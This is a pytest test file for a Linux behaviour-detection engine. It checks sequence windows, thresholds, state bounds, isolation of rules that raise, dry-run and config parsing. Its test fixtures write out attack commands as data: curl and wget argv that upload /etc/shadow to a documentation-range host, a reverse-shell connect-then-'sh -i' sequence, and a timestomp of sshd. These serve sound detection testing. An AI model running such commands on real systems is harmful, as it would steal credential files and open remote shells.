"""The behaviour engine: windows, sequences, thresholds, expiry, memory
bounds, isolation of a raising rule, dry-run, and config errors."""

from __future__ import annotations

import dataclasses
import time

import pytest

from bastion.detect.behavior import behavior_rules, parse_behavior, rule_names
from bastion.detect.behavior.base import NS, Hit, SequenceRule, SingleEvent, Step, ThresholdRule
from bastion.detect.behavior.config import BehaviorConfig, BehaviorConfigError
from bastion.detect.behavior.rules import ReverseShell
from bastion.detect.behavior.state import BoundedState, Limits, tree_key
from bastion.detect.engine import RULE_ERROR, Engine, Finding, RuleContext
from bastion.events import Event, ExecEvent, FileEvent, ForkEvent, NetEvent, Proc
from bastion.proctable import ProcessTable
from bastion.respond.dispatch import Dispatcher

T0 = 1_767_225_600 * NS


def proc(pid: int, exe: str = "/usr/bin/python3.11", ppid: int = 1) -> Proc:
    return Proc(pid=pid, tid=pid, ppid=ppid, uid=0, euid=0, gid=0, cgroup_id=1,
                comm=exe.rsplit("/", 1)[-1][:15], start_ns=pid * 1000, exe=exe)


def exec_(pid: int, exe: str, t: float, argv: tuple[str, ...] = (), ppid: int = 1) -> ExecEvent:
    return ExecEvent(T0 + int(t * NS), proc(pid, exe, ppid), argv=argv or (exe,))


def connect(pid: int, t: float, daddr: str = "203.0.113.9", dport: int = 4444,
            exe: str = "/usr/bin/python3.11") -> NetEvent:
    return NetEvent(T0 + int(t * NS), proc(pid, exe), op="connect", family="inet",
                    protocol="tcp", daddr=daddr, dport=dport)


def run(engine: Engine, procs: ProcessTable, events: list[Event]) -> list[Finding]:
    ctx = RuleContext(procs)
    out: list[Finding] = []
    for ev in events:
        procs.update(ev)
        out += engine.evaluate(ev, ctx)
    return out


# ---- sequences and windows -----------------------------------------------------

def test_sequence_in_window_fires() -> None:
    e = Engine([ReverseShell()])
    got = run(e, ProcessTable(), [connect(10, 0), exec_(10, "/usr/bin/dash", 1, ("sh", "-i"))])
    assert [f.rule for f in got] == ["behavior.reverse_shell"]
    assert got[0].action == "kill" and got[0].evidence["window_s"] == 1.0


def test_sequence_outside_window_does_not_fire() -> None:
    e = Engine([ReverseShell()])
    got = run(e, ProcessTable(), [connect(10, 0), exec_(10, "/usr/bin/dash", 31, ("sh",))])
    assert got == []


def test_sequence_order_matters_and_other_process_does_not_complete() -> None:
    e = Engine([ReverseShell()])
    evs: list[Event] = [exec_(10, "/usr/bin/dash", 0), connect(10, 1),   # wrong order
                        connect(11, 2), exec_(12, "/usr/bin/dash", 3)]   # other process
    assert run(e, ProcessTable(), evs) == []


def test_sequence_with_lineage() -> None:
    class ConnectThenChildShell(SequenceRule):
        name = "t.lineage"
        event_types = frozenset({"connect", "exec"})
        attack = ("T0000",)
        steps = ReverseShell.steps
        lineage_depth = 2

    procs = ProcessTable()
    evs: list[Event] = [exec_(20, "/usr/bin/python3.11", 0), connect(20, 1),
                        ForkEvent(T0 + 2 * NS, proc(20), child_pid=21, child_start_ns=21000),
                        exec_(21, "/usr/bin/dash", 3, ppid=20)]
    got = run(Engine([ConnectThenChildShell()]), procs, evs)
    assert [f.rule for f in got] == ["t.lineage"]


class Burst(ThresholdRule):
    name = "t.burst"
    event_types = frozenset({"open"})
    attack = ("T0000",)
    count = 5
    window_ns = 2 * NS
    distinct = True

    def value(self, ev: Event, ctx: RuleContext) -> str | None:
        return ev.path if isinstance(ev, FileEvent) else None


def opened(pid: int, path: str, t: float) -> FileEvent:
    return FileEvent(T0 + int(t * NS), proc(pid), op="open", path=path, flags=1)


def test_threshold_window_distinct_and_once_per_window() -> None:
    e = Engine([Burst()])
    procs = ProcessTable()
    slow = [opened(1, f"/a{i}", i * 1.0) for i in range(10)]          # 1/s: never 5 in 2 s
    assert run(e, procs, slow) == []
    same = [opened(2, "/same", 20 + i * 0.01) for i in range(50)]       # not distinct
    assert run(e, procs, same) == []
    fast = [opened(3, f"/b{i}", 30 + i * 0.01) for i in range(50)]
    got = run(e, procs, fast)
    assert len(got) == 1 and got[0].evidence["count"] == 5              # fires once per window
    later = [opened(3, f"/c{i}", 40 + i * 0.01) for i in range(5)]
    assert len(run(e, procs, later)) == 1                               # and again after it


def test_tree_key_groups_fork_workers() -> None:
    procs = ProcessTable()
    run(Engine([]), procs, [exec_(50, "/usr/bin/python3.11", 0, ppid=1),
                            ForkEvent(T0, proc(50), child_pid=51, child_start_ns=51000),
                            ForkEvent(T0, proc(50), child_pid=52, child_start_ns=52000)])
    assert tree_key(opened(51, "/x", 1), procs) == (50, 50000)
    assert tree_key(opened(52, "/x", 1), procs) == (50, 50000)


# ---- state bounds and expiry ------------------------------------------------------

def test_bounded_state_expiry_and_shedding() -> None:
    st: BoundedState[int, int] = BoundedState(Limits(max_keys=3, ttl_ns=10))
    for k in range(5):
        st.put(k, k, k)
    assert len(st) == 3 and st.shed == 2
    assert st.get(4, 100) is None and st.expired == 1                   # idle past the TTL
    assert st.expire(100) == 2 and len(st) == 0


def test_memory_bounded_under_20k_processes() -> None:
    # 20 000 processes: ~5x the table bound and ~20x each rule's key bound, so both are
    # hit many times over (100 000 cost 12 s of suite time and proved nothing more)
    rules = behavior_rules(BehaviorConfig(max_keys=1024))
    e = Engine(rules)
    procs = ProcessTable(max_entries=4096)
    ctx = RuleContext(procs)
    for pid in range(1000, 21000):
        for ev in (connect(pid, pid * 1e-4, dport=80 + pid % 50), opened(pid, f"/home/a/{pid}", pid * 1e-4)):
            procs.update(ev)
            e.evaluate(ev, ctx)
    stats = e.stats()
    per_rule_states = sum(len(getattr(r, "_states", ())) for r in rules)
    assert stats["state_keys"] <= 1024 * per_rule_states
    assert stats["state_shed"] > 0                                      # counted, not silent
    assert len(procs) <= 4096     # (throughput is a bench figure, not a timed test)


def test_engine_expire_drops_idle_state() -> None:
    e = Engine([ReverseShell(limits=Limits(ttl_ns=5 * NS))])
    run(e, ProcessTable(), [connect(i, 0) for i in range(100)])
    assert e.stats()["state_keys"] == 100
    assert e.expire(T0 + 10 * NS) == 100 and e.stats()["state_keys"] == 0


# ---- isolation ------------------------------------------------------------------------

class Boom(SingleEvent):
    name = "t.boom"
    event_types = frozenset({"exec"})
    attack = ("T0000",)

    def match(self, ev: Event, ctx: RuleContext) -> Hit | None:
        raise ZeroDivisionError("bad rule")


class Picky(SingleEvent):
    """Raises on one attacker-shaped input only, finds the rest."""
    name = "t.picky"
    event_types = frozenset({"exec"})
    attack = ("T0000",)

    def match(self, ev: Event, ctx: RuleContext) -> Hit | None:
        if ev.proc.exe.endswith("/crafted"):
            raise ValueError("crafted input")
        return Hit("seen", {}) if ev.proc.exe.endswith("/evil") else None


def test_raising_rule_is_counted_alerted_once_and_the_others_carry_on() -> None:
    e = Engine([Boom(), *behavior_rules()])
    evs: list[Event] = [exec_(7, "/usr/bin/true", i) for i in range(5)]
    evs.append(exec_(8, "/dev/shm/x", 6))
    got = run(e, ProcessTable(), evs)
    errs = [f for f in got if f.rule == RULE_ERROR]
    assert len(errs) == 1 and errs[0].evidence["failed_rule"] == "t.boom"     # rate-limited
    assert e.errors == {"t.boom": 6} and "ZeroDivisionError" in e.disabled["t.boom"]
    assert "test_behavior_engine.py:" in errs[0].evidence["error"]            # the raising line
    assert any(f.rule == "behavior.exec_from_tmp" for f in got)         # the others carry on


def test_an_input_that_makes_a_rule_raise_does_not_switch_the_rule_off() -> None:
    """s17: the engine disabled a rule for good on its first exception, so one crafted
    event (e.g. an undecodable mount name in binary_padding's probe) blinded that rule
    for the whole host until restart.  Now the crafted event is skipped by the rule and
    reported; the attack after it is still found."""
    e = Engine([Picky()])
    got = run(e, ProcessTable(), [exec_(7, "/tmp/crafted", 1), exec_(8, "/tmp/crafted", 2),
                                  exec_(9, "/tmp/evil", 3)])
    assert [f.rule for f in got] == [RULE_ERROR, "t.picky"]
    assert e.errors == {"t.picky": 2}


# ---- dry-run and responses --------------------------------------------------------------

def test_dry_run_per_rule_and_global() -> None:
    evs: list[Event] = [connect(10, 0), exec_(10, "/usr/bin/dash", 1)]
    cfg = parse_behavior("behavior:\n  rules:\n    behavior.reverse_shell: {dry_run: true}\n",
                         "p.yaml", rule_names())
    f = [x for x in run(Engine(behavior_rules(cfg)), ProcessTable(), evs)
         if x.rule == "behavior.reverse_shell"][0]
    assert f.dry_run and f.action == "kill"
    alert = Dispatcher(ProcessTable()).dispatch(f, T0).to_json()
    assert alert["action"] == "would-kill"
    g = dataclasses.replace(f, dry_run=False, action="kill-tree")
    assert Dispatcher(ProcessTable(), dry_run=True).dispatch(g, T0).action == "would-kill-tree"
    cfg2 = parse_behavior("behavior:\n  dry_run: true\n", "p.yaml", rule_names())
    assert all(getattr(r, "dry_run") for r in behavior_rules(cfg2))


def test_overrides_and_disable() -> None:
    cfg = parse_behavior(
        "behavior:\n  rules:\n    behavior.exec_from_tmp: {enabled: false}\n"
        "    behavior.port_scan: {action: kill, severity: critical}\n", "p.yaml", rule_names())
    rules = {r.name: r for r in behavior_rules(cfg)}
    assert "behavior.exec_from_tmp" not in rules
    evs: list[Event] = [connect(9, i * 0.01, "192.0.2.1", 1000 + i) for i in range(30)]
    f = run(Engine([rules["behavior.port_scan"]]), ProcessTable(), evs)[0]
    assert (f.action, f.severity) == ("kill", "critical")


def test_config_errors_name_file_and_line() -> None:
    text = ("behavior:\n  dry_run: maybe\n  rules:\n    behavior.nope: {action: kill}\n"
            "    behavior.port_scan: {action: explode}\n")
    with pytest.raises(BehaviorConfigError) as ei:
        parse_behavior(text, "policy.yaml", rule_names())
    msgs = [str(p.location) + " " + p.message for p in ei.value.problems]
    assert any(m.startswith("policy.yaml:2:") and "true or false" in m for m in msgs), msgs
    assert any(m.startswith("policy.yaml:4:") and "unknown behaviour rule" in m for m in msgs), msgs
    assert any(m.startswith("policy.yaml:5:") and "action must be" in m for m in msgs), msgs


def test_quarantine_without_backend_kills_and_says_so() -> None:
    f = Finding(rule="r", title="t", severity="high", attack=(), action="quarantine", event=None,
                pid=2**22 + 12345)  # no such process
    out = Dispatcher(ProcessTable()).dispatch(f, T0).action
    assert "quarantine unavailable" in out


def test_glob_any_is_the_first_matching_glob_of_fnmatch_for_every_pattern_set() -> None:
    """glob_any decides with one compiled regex per pattern tuple (issue 16.3): it must give
    exactly what the globs in order give with fnmatchcase, for every pattern set the rules
    use, on paths that match one glob, several, or none (newlines, brackets, dots)."""
    import fnmatch

    from bastion.detect.behavior import base as behavior_base, depth, rules, staging, wipe
    from bastion.detect.behavior.base import glob_any

    sets: list[tuple[str, ...]] = [c.patterns for c in rules.PERSISTENCE]
    sets += [rules.CRED_STORES, rules.PRIV_CONFIG, rules.SECURITY_CONFIGS, rules.LOGS,
             rules.HISTORY, rules.LOGS_HISTORY, rules.MAIL_SPOOLS, rules.DISCOVERY_FILES,
             tuple(staging.ACCOUNT_DB_GLOBS), depth.UPLOAD_SOURCES, ("/etc/rc[0-6S].d/*", "*/[!.]x?")]
    paths = ["/etc/shadow", "/etc/shadow-", "/etc/shadowx", "/etc/cron.d/job", "/etc/cron.d/",
             "/etc/cron.d/a/b", "/home/u/.ssh/id_rsa", "/home/u/v/.ssh/id_rsa", "/etc/rc3.d/S01x",
             "/etc/rc7.d/S01x", "/etc/rcS.d/x", "/root/.bash_history", "/var/log/syslog",
             "/var/log/a/b", "/var/log/journal/m/system.journal", "/etc/profile\n",
             "/etc/profile", "/tmp/.git/hooks/pre-commit", "/a/.x", "/a/bxy", "", "/",
             "/etc/sudoers.d/ops", "/etc/pam.d/sshd", "/etc/ssh/sshd_config.d/x.conf",
             "/root/.ssh/authorized_keys2", "/var/spool/cron/crontabs/root", "relative/path"]
    for pats in sets:
        for p in paths + [x.replace("*", "zz").replace("?", "q") for x in pats]:
            want = next((pat for pat in pats if fnmatch.fnmatchcase(p, pat)), None)
            assert glob_any(p, pats) == want, (p, pats)
            assert glob_any(p, list(pats)) == want, (p, pats)   # any iterable, not cached by id
    assert behavior_base._GLOB_RX   # the module constants' regexes are kept
    assert wipe.LOGS_HISTORY is rules.LOGS_HISTORY


def test_under_is_the_lexical_prefix_test_for_every_form_of_dirs() -> None:
    """under() with its per-tuple prefixes (issue 16.3) answers as the plain test did: the
    directory itself or below it, a trailing slash ignored, "/" holding every absolute
    path, a sibling with the same prefix (/tmpx) not below /tmp."""
    from bastion.detect.behavior.base import under

    def plain(path: str, dirs: tuple[str, ...]) -> bool:
        return any(path == d.rstrip("/") or path.startswith(d.rstrip("/") + "/") for d in dirs)

    dirs_sets = [("/tmp", "/var/tmp", "/dev/shm"), ("/tmp/",), ("/",), (), ("/proc", "/sys"),
                 ("relative",), ("/a//",)]
    paths = ["/tmp", "/tmp/", "/tmp/x", "/tmpx", "/var/tmp/a/b", "/var", "/", "", "x",
             "/proc/1/mem", "/sys", "relative/x", "relativex", "/a", "/a/", "/a//b", "/dev/shm"]
    for dirs in dirs_sets:
        for p in paths:
            assert under(p, dirs) is plain(p, dirs), (p, dirs)
            assert under(p, list(dirs)) is plain(p, dirs), (p, dirs)
    assert not under("/tmpx", ("/tmp",)) and under("/tmp/x", ["/tmp/"])


def test_an_open_reaches_only_the_rules_whose_interest_takes_it() -> None:
    """Issue 16.3: ``read_interest`` / ``write_interest`` (engine.OpenInterest): a read-only
    or write open goes to a rule that declared one only when its path is under a prefix,
    matches a glob, or (``sensitive``) its inode is in the sensor's sensitive set; rules
    without one get every open of their kind; the rules keep their order; the routes are
    rebuilt after ``replace`` and their memo is bounded."""
    import os

    from bastion.detect.engine import OpenInterest
    from bastion.events import FileEvent, Proc

    class Spy:
        event_types = frozenset({"open"})

        def __init__(self, name: str, **kw: object) -> None:
            self.name, self.seen = name, []
            for k, v in kw.items():
                setattr(self, k, v)

        def on_event(self, ev: FileEvent, ctx: RuleContext) -> list[Finding]:
            self.seen.append(ev.path)
            return [Finding(rule=self.name, title=ev.path, severity="low", attack=(),
                            action="alert", event=ev, pid=ev.proc.pid)]

    proc_w = Spy("proc", write_interest=OpenInterest(prefixes=("/proc/",)))
    keys_r = Spy("keys", read_interest=OpenInterest(globs=("/home/*/.ssh/id_*",), sensitive=True),
                 write_interest=OpenInterest(globs=("/home/*/.ssh/id_*",)))
    plain = Spy("plain")
    engine = Engine([proc_w, keys_r, plain])
    p = Proc(pid=7, tid=7, ppid=1, uid=0, euid=0, gid=0, cgroup_id=1, comm="x", exe="/x")
    ctx = RuleContext(ProcessTable())

    def run(path: str, flags: int, sensitive: str = "") -> list[str]:
        ev = FileEvent(1, p, op="open", path=path, flags=flags, sensitive=sensitive)
        return [f.rule for f in engine.evaluate(ev, ctx)]

    W = os.O_WRONLY
    assert run("/proc/9/mem", W) == ["proc", "plain"]
    assert run("/proc/9/mem", os.O_RDONLY) == ["proc", "plain"]   # no read interest: all
    assert run("/procx/9", W) == ["plain"]
    assert run("/home/a/.ssh/id_rsa", os.O_RDONLY) == ["proc", "keys", "plain"]
    assert run("/home/a/.ssh/id_rsa", W) == ["keys", "plain"]
    # fnmatch's * crosses "/" (behavior.base.glob_any's semantics, which the rules use)
    assert run("/home/a/b/.ssh/id_rsa", W) == ["keys", "plain"]
    assert run("/home/a/.ssh/known_hosts", W) == ["plain"]
    assert run("/etc/x", os.O_RDONLY, "credentials") == ["proc", "keys", "plain"]
    assert run("/etc/x", W, "credentials") == ["plain"]       # sensitive: the read interest only
    assert run("/etc/x", os.O_RDONLY) == ["proc", "plain"]
    engine.open_memo_max = 2
    for i in range(10):
        run(f"/tmp/{i}", W)
    assert len(engine._open_memo) <= 2
    engine.replace([plain], [])
    assert run("/proc/9/mem", W) == ["proc"] and run("/etc/x", W) == []


def test_an_exec_reaches_only_the_rules_whose_interest_takes_its_name() -> None:
    """Issue 16.3: ``exec_interest`` (engine.ExecInterest): an exec goes to a rule that
    declared one only when its executable's or argv[0]'s last component is one of the
    names or passes the test; rules without one get every exec, in order; re-routed after
    ``replace``."""
    from bastion.detect.engine import ExecInterest
    from bastion.events import ExecEvent, Proc

    class Spy:
        event_types = frozenset({"exec"})

        def __init__(self, name: str, **kw: object) -> None:
            self.name = name
            for k, v in kw.items():
                setattr(self, k, v)

        def on_event(self, ev: ExecEvent, ctx: RuleContext) -> list[Finding]:
            return [Finding(rule=self.name, title="", severity="low", attack=(),
                            action="alert", event=ev, pid=ev.proc.pid)]

    finder = Spy("find", exec_interest=ExecInterest(names=frozenset({"find"})))
    py = Spy("py", exec_interest=ExecInterest(test=lambda n: n.startswith("python")))
    plain = Spy("plain")
    engine = Engine([finder, py, plain])
    ctx = RuleContext(ProcessTable())

    def run(exe: str, *argv: str) -> list[str]:
        p = Proc(pid=7, tid=7, ppid=1, uid=0, euid=0, gid=0, cgroup_id=1, comm="x", exe=exe)
        ev = ExecEvent(1, p, filename=exe, argv=argv)
        return [f.rule for f in engine.evaluate(ev, ctx)]

    assert run("/usr/bin/find", "find", "/") == ["find", "plain"]
    assert run("/usr/bin/busybox", "find", "/") == ["find", "plain"]     # by argv[0]
    assert run("/usr/bin/find/", "x") == ["find", "plain"]               # a trailing /
    assert run("/usr/bin/python3.11", "python3") == ["py", "plain"]
    assert run("/usr/bin/ls", "ls") == ["plain"]
    assert run("/usr/bin/ls") == ["plain"]                                # no argv
    engine.replace([plain], [])
    assert run("/usr/bin/ls", "ls") == [] and run("/bin/find", "find") == ["find"]


def test_the_engine_s_direct_call_of_a_rule_finds_what_its_on_event_finds() -> None:
    """The engine calls a behaviour rule at ``match`` (kind 1) or ``evaluate`` (kind 2),
    not through ``on_event`` (s24): the same findings in the same order; a rule that
    trusts actors, overrides ``on_event`` or has a method set on the instance goes
    through ``on_event``; a rule raising in ``finding`` is isolated like one raising in
    its match; and every rule of the pack is routed for every type it declares."""
    from bastion.containers import Selector

    class One(SingleEvent):
        name, event_types = "t.one", frozenset({"exec"})

        def match(self, ev: Event, ctx: RuleContext) -> Hit | None:
            return Hit(f"one {ev.proc.pid}") if ev.proc.pid % 2 else None

    class Two(ThresholdRule):
        name, event_types, count, window_ns = "t.two", frozenset({"exec"}), 1, 60 * NS

        def value(self, ev: Event, ctx: RuleContext) -> str | None:
            return "x"

    class Own(One):
        name = "t.own"

        def on_event(self, ev: Event, ctx: RuleContext) -> list[Finding]:
            return [dataclasses.replace(f, title="own") for f in super().on_event(ev, ctx)]

    class Bad(One):
        name = "t.bad"

        def finding(self, ev: Event, h: Hit) -> Finding:
            raise ValueError("no finding")

    from bastion.detect.behavior.base import RuleSettings
    trusting = One(RuleSettings(trust=(Selector(host=True),)))
    trusting.name = "t.trusting"
    patched = One()
    patched.name = "t.patched"
    patched.on_event = lambda ev, ctx: []   # type: ignore[method-assign]
    rules = [One(), Two(), Own(), trusting, patched]
    assert [r.engine_call()[1] for r in rules] == [1, 2, 0, 0, 0]
    events: list[Event] = [exec_(p, "/usr/bin/x", p / 10) for p in range(101, 109)]
    got = run(Engine(rules + [Bad()]), ProcessTable(), events)
    twins = [One(), Two(), Own(), One(RuleSettings(trust=(Selector(host=True),))), patched]
    twins[3].name = "t.trusting"
    want: list[Finding] = []
    ctx = RuleContext(ProcessTable())
    for ev in events:
        for r in twins:
            want += r.on_event(ev, ctx)
    assert [(f.rule, f.title, f.pid, f.evidence) for f in got if f.rule != RULE_ERROR] == \
        [(f.rule, f.title, f.pid, f.evidence) for f in want]
    # the raising rule: reported (once: rate-limited), the others carried on
    assert [f.evidence["failed_rule"] for f in got if f.rule == RULE_ERROR] == ["t.bad"]
    assert {f.rule for f in got} == {"t.one", "t.two", "t.own", RULE_ERROR}
    assert [f.title for f in got if f.rule == "t.own"] == ["own"] * 4
    # the default pack: every rule is routed for every type it declares
    engine = Engine(behavior_rules())
    for r in engine.rules:
        for t in r.event_types:
            assert any(e[0] is r for e in engine._routes[t]), (r.name, t)


@pytest.mark.parametrize("exe, argv", [
    ("/usr/bin/touch", ("touch", "-d", "2019-01-01", "/usr/bin/sshd")),
    ("/usr/bin/curl", ("curl", "-T", "/etc/shadow", "https://203.0.113.9/")),
    ("/usr/bin/wget", ("wget", "--post-file=/etc/shadow", "https://203.0.113.9/")),
    ("/usr/bin/wget2", ("wget2", "--post-file", "/etc/shadow", "https://203.0.113.9/")),
])
def test_exec_interests_of_the_named_tool_rules_reach_each_tool(
        exe: str, argv: tuple[str, ...]) -> None:
    """timestomp and exfil_upload declare the tools their match() names (s24): an exec of
    each (wget2 is in no recorded fixture) still reaches the rule through the engine, and
    finds what the rule finds when called itself."""
    rule = {"touch": "behavior.timestomp"}.get(argv[0], "behavior.exfil_upload")
    ev = exec_(4242, exe, 1.0, argv)
    got = run(Engine(behavior_rules()), ProcessTable(), [ev])
    direct = next(r for r in behavior_rules() if r.name == rule)
    assert direct.on_event(ev, RuleContext(ProcessTable()))
    assert [f.rule for f in got if f.rule == rule] == [rule]
